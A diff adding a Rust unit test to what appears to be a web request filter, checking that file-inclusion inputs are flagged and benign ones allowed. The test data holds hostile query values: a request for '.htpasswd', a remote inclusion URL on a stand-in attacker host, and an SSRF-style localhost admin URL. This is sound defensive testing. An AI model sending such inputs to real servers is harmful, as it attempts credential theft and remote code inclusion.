@@ -275,6 +275,15 @@ fn configuration_options_and_errors() {
 }
 
 #[test]
+fn bare_file_names_in_include_like_fields() {
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request("file=.htpasswd".into())));
+    assert_eq!(v["category"], "FILE_INCLUSION");
+    let v = reason(&eval_one(r#"{"kind":"shield"}"#, &query_request("page=http://attacker.example/x.php".into())));
+    assert_eq!(v["category"], "FILE_INCLUSION");
+    assert_eq!(eval_one(r#"{"kind":"shield"}"#, &query_request("file=report.pdf&q=.htpasswd".into())).conclusion, Conclusion::Allow);
+}
+
+#[test]
 fn sensitivity_levels_order_detection() {
     // Sensitivity 3 adds URLs anywhere in a value for SSRF.
     let v = "see http://127.0.0.1:8080/admin now";
